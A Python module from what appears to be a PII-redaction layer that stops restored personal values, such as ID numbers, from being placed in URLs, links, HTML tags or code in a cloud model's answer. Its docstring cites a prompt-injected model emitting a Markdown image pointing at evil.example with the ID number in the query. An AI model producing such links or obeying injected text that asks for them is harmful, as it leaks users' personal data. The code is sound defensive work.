"""Where in an answer a restored value could be carried off the device.

A cloud model sees placeholders (``[身份证号_1]``), never the values; restoring them on the device is what
makes its answer useful. But a model (or a prompt injection it obeyed) can place a placeholder where a
client acts on the text without a person reading it: ``![x](https://evil.example/?d=[身份证号_1])`` is
fetched by any Markdown renderer that shows images, with the real ID number in the query string. So a
placeholder is restored only in prose; inside one of these *carriers* it is left as it is (and reported):

* a URL (``scheme://…``, ``www.…``, ``mailto:``/``data:``/``javascript:``), up to the next whitespace;
* a Markdown link or image target, ``](…)``, and a reference definition ``[x]: …``;
* an HTML tag (any attribute of ``<img src=… onerror=…>``);
* code: an inline code span or a fenced block, which a client may copy into a shell or run.

:func:`carrier` looks only at the text *before* the placeholder, so it works on a stream: the answer so far
is all it needs.
"""

from __future__ import annotations

import re

_URL = re.compile(r"(?:[A-Za-z][A-Za-z0-9+.-]*://|www\.|(?:mailto|data|javascript|sms|tel):)[^\s<>\"'`]*\Z", re.I)
_LINK_TARGET = re.compile(r"\]\([^()\s]*(?:\([^()\s]*\)[^()\s]*)*\Z|\A\s{0,3}\[[^\]]+\]:\s*\S*\Z")
_TAG = re.compile(r"<[A-Za-z!/][^<>]*\Z")
_FENCE = re.compile(r"^\s{0,3}(?:```|~~~)", re.M)


def carrier(before: str) -> str | None:
    """The kind of carrier (``code``, ``url``, ``link``, ``html``) open at the end of ``before``, or None."""
    if len(_FENCE.findall(before)) % 2:
        return "code"
    line = before[before.rfind("\n") + 1 :]
    if line.count("`") % 2:
        return "code"
    if _LINK_TARGET.search(line):
        return "link"
    if _URL.search(line):
        return "url"
    if _TAG.search(before[-2048:]):
        return "html"
    return None
